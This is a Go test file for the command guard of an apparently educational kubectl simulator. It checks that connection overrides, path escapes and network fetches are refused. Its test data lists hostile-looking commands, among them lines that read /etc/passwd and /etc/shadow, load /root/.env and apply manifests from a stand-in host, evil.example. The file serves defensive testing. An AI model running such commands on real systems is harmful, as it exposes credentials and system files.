package engine

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/spf13/cobra"
	"github.com/spf13/pflag"
)

// Every spelling kubectl accepts of a flag that points it at another cluster, user or the
// host's files is refused in every mode, before kubectl runs.
func TestCheckLocalRefusesConnectionFlags(t *testing.T) {
	s := &Session{ns: "default"} // no lesson namespace: the simulator's case
	flags := []string{"kubeconfig", "context", "cluster", "user", "server", "token", "as", "as-group",
		"as-uid", "certificate-authority", "client-certificate", "client-key", "tls-server-name",
		"kuberc", "username", "password", "cache-dir"}
	for _, f := range flags {
		for _, line := range []string{
			"kubectl get pods --" + f + "=x",
			"kubectl get pods --" + f + " x",
			"kubectl --" + f + " x get pods",
			"kubectl --" + f + "=x delete ns prod",
			"kubectl delete -- ns prod --" + f + "=x", // flags after -- are positional: kubectl errors, nothing runs
		} {
			err := s.CheckCommand(line)
			var ge *GuardError
			if strings.Contains(line, " -- ") {
				// kubectl reads "--kubeconfig=x" after -- as a name; a resource named so
				// cannot exist, and the flag never applies.
				continue
			}
			if !errors.As(err, &ge) || !strings.Contains(ge.Reason, "--"+f) {
				t.Errorf("%s: err = %v, want a refusal naming --%s", line, err, f)
			}
		}
	}
	for _, line := range []string{
		"kubectl -s https://evil.example get pods",
		"kubectl get pods -shttps://evil.example",
		"kubectl get pods -s=https://evil.example",
		"kubectl get pods -As https://evil.example",
		"kubectl get pods --insecure-skip-tls-verify",
		"kubectl get pods --insecure-skip-tls-verify=false",
		"kubectl get pods --profile=cpu --profile-output=/tmp/p",
		"kubectl config view",
		"kubectl config use-context prod",
		"kubectl -n x config current-context",
		"kubectl plugin list",
		"kubectl kuberc view",
		"kubectl __complete get ''",
	} {
		var ge *GuardError
		if err := s.CheckCommand(line); !errors.As(err, &ge) {
			t.Errorf("%s: err = %v, want a refusal", line, err)
		}
	}
}

func TestCheckLocalRefusesPathEscapes(t *testing.T) {
	s := &Session{ns: "default"}
	for line, want := range map[string]string{
		"kubectl apply -f /etc/passwd":                                   "outside the lesson",
		"kubectl apply -f ../x.yaml":                                     "leaves the lesson's folder",
		"kubectl apply --filename=/etc/passwd":                           "outside the lesson",
		"kubectl apply -Rf /etc":                                         "outside the lesson",
		"kubectl apply -k .":                                             "--kustomize",
		"kubectl create cm x --from-file=/etc/shadow":                    "--from-file",
		"kubectl create cm x --from-file=k=../../etc/shadow":             "--from-file",
		"kubectl create secret generic x --from-env-file=/root/.env":     "--from-env-file",
		"kubectl get pods -o go-template-file=/etc/passwd":               "go-template-file",
		"kubectl get pods -o=custom-columns-file=/etc/passwd":            "custom-columns-file",
		"kubectl patch sts web --patch-file /etc/passwd":                 "--patch-file",
		"kubectl create secret tls x --cert /etc/ssl/c --key /etc/ssl/k": "--cert",
		"kubectl cp web-0:/etc/hostname /tmp/x":                          "kubectl cp",
		"kubectl kustomize /":                                            "--kustomize",
		"kubectl apply -f https://evil.example/x.yaml":                   "network",
		"kubectl debug web-0 --custom=/etc/passwd":                       "--custom",
	} {
		err := s.CheckCommand(line)
		var ge *GuardError
		if !errors.As(err, &ge) || !strings.Contains(ge.Reason, want) {
			t.Errorf("%s: err = %v, want a refusal mentioning %q", line, err, want)
		}
	}
	for _, line := range []string{
		"kubectl apply -f web.yaml", "kubectl apply -f ./web.yaml", "kubectl apply -f -",
		"kubectl apply -f https://k8s.io/examples/application/web/web.yaml",
		"kubectl logs -f web-0", // -f of logs is --follow
		"kubectl get pods -o jsonpath='{.items[*].metadata.name}'",
		"kubectl get pods -n other", // the simulator is all the learner's
		"kubectl delete ns kube-system",
	} {
		if err := s.CheckCommand(line); err != nil {
			t.Errorf("%s: refused: %v", line, err)
		}
	}
}

// TestPathFlagsCover holds pathFlags against kubectl itself: every flag of every command
// whose help speaks of a file, path or directory is either a path flag or known not to be.
func TestPathFlagsCover(t *testing.T) {
	notPaths := map[string]bool{
		// Values that are not local paths, although their help mentions files.
		"patch": true, "output": true, "recursive": true, "raw": true, "local": true,
		"save-config": true, "show-managed-fields": true, "dry-run": true, "validate": true,
		"selector": true, "field-selector": true, "all": true, "show-kind": true, "from-literal": true,
		"output-watch-events": true, "sort-by": true, "record": true, "overwrite": true,
		"windows-line-endings": true, "append-hash": true, "filename-only": true,
		"server-side": true, "force-conflicts": true, "field-manager": true, "prune": true,
		"prune-allowlist": true, "openapi-patch": true, "include-uninitialized": true,
		"cascade": true, "grace-period": true, "wait": true, "ignore-not-found": true,
		"force": true, "timeout": true, "for": true, "env": true, "from": true, "keys": true,
		"resolve": true, "containers": true, "list": true, "prefix": true, "c": true,
		"subresource": true, "type": true, "docker-server": true, "docker-email": true,
		"docker-username": true, "docker-password": true, "token": true, "copy-to": true,
		"image": true, "no-preserve": true, "retries": true, "tail": true, "since": true,
		"all-containers": true, "enable-helm": true, "helm-command": true, "load-restrictor": true,
		"env-file-only": true, "profile": true,
		"interactive": true, "tty": true, "stdin": true, "quiet": true, "attach": true, "rm": true,
		"restart": true, "overrides": true, "command": true, "annotations": true, "labels": true,
		"show-labels": true, "label-columns": true, "no-headers": true, "chunk-size": true,
		"watch": true, "watch-only": true, "ignore-daemonsets": true, "delete-emptydir-data": true,
		"disable-eviction": true, "pod-selector": true, "skip-wait-for-delete-timeout": true,
		"allow-missing-template-keys": true, "requests": true, "limits": true, "unset": true,
		"custom-columns": true, "help": true, "insecure-skip-tls-verify": true,
		"tls-server-name": true, "server": true, "context": true, "user": true, "cluster": true,
		"namespace": true, "as": true, "as-group": true, "as-uid": true, "as-user-extra": true,
		"username": true, "password": true, "request-timeout": true, "match-server-version": true,
		"disable-compression": true, "warnings-as-errors": true, "proxy-url": true,
		"flatten": true, "merge": true, "append-server-path": true, "www-prefix": true,
	}
	root := newParseTree()
	var missing []string
	visitFlags(root, func(cmdPath, name, usage string) {
		u := strings.ToLower(usage)
		if !(strings.Contains(u, "file") || strings.Contains(u, "director") || strings.Contains(u, "path to")) {
			return
		}
		if pathFlags[name] || notPaths[name] {
			return
		}
		missing = append(missing, cmdPath+" --"+name+": "+usage)
	})
	if len(missing) > 0 {
		t.Errorf("kubectl flags that may name a local file are neither in pathFlags nor known not to be:\n%s",
			strings.Join(missing, "\n"))
	}
	// cluster-info dump writes a directory of files on this computer.
	s := &Session{ns: "default"}
	if err := s.CheckCommand("kubectl cluster-info dump --output-directory=/tmp/x"); err == nil {
		t.Error("cluster-info dump --output-directory=/tmp/x was not refused")
	}
}

func visitFlags(c *cobra.Command, fn func(cmdPath, name, usage string)) {
	c.LocalFlags().VisitAll(func(f *pflag.Flag) { fn(c.CommandPath(), f.Name, f.Usage) })
	for _, sub := range c.Commands() {
		visitFlags(sub, fn)
	}
}

// The in-process kubectl connects only with the session's rest.Config: a KUBECONFIG or
// ~/.kube/config pointing elsewhere is never read, and never receives a request.
func TestKubectlNeverReadsTheLearnersKubeconfig(t *testing.T) {
	var hits atomic.Int64
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		http.Error(w, "wrong cluster", http.StatusTeapot)
	}))
	defer evil.Close()
	home := t.TempDir()
	kc := "apiVersion: v1\nkind: Config\nclusters:\n- name: evil\n  cluster: {server: " + evil.URL + "}\n" +
		"users:\n- name: evil\n  user: {token: stolen}\ncontexts:\n- name: evil\n  context: {cluster: evil, user: evil, namespace: evil}\n" +
		"current-context: evil\n"
	if err := os.MkdirAll(filepath.Join(home, ".kube"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(home, ".kube", "config"), []byte(kc), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("HOME", home)
	t.Setenv("KUBECONFIG", filepath.Join(home, ".kube", "config"))
	s, _ := newTestSession(t)
	s.kubeconfig, s.kubeContext = "", "" // as a real-cluster session loaded from the defaults
	out, errOut, err := kubectl(t, s, "kubectl get pods")
	if err != nil || out != "" || errOut != "No resources found in default namespace.\n" {
		t.Fatalf("get pods: %v %q %q", err, out, errOut)
	}
	if n := hits.Load(); n != 0 {
		t.Fatalf("the kubeconfig's server got %d requests", n)
	}
	if err := s.RunKubectl(context.Background(), "kubectl --kubeconfig "+filepath.Join(home, ".kube", "config")+" get pods", nil, nil, nil); err == nil {
		t.Fatal("--kubeconfig was not refused")
	}
	if n := hits.Load(); n != 0 {
		t.Fatalf("the kubeconfig's server got %d requests", n)
	}
}

// A -f value hidden in combined short flags, which the runner's rewrite does not see, is
// refused instead of being read from the working directory.
func TestKubectlCombinedShortFileFlag(t *testing.T) {
	s, _ := newTestSession(t)
	_, _, err := kubectl(t, s, "kubectl apply -Rf web.yaml")
	var ge *GuardError
	if !errors.As(err, &ge) {
		t.Fatalf("apply -Rf web.yaml: err = %v, want a refusal", err)
	}
	mustKubectl(t, s, "kubectl apply -R -f web.yaml", "service/nginx created\nstatefulset.apps/web created\n")
}
